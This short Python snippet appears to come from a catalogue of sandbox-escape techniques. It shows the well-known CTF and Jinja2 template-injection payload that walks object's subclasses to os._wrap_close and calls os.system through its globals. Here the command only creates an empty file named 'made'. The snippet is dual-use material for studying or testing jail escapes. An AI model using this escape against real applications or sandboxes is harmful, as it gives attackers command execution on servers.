"""The class of popen's streams, found below object, leads to the names of os.

Known from: CTF jails; the usual payload against templates of Jinja2
Effect: made
Jail: no builtins
"""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"](": > made")
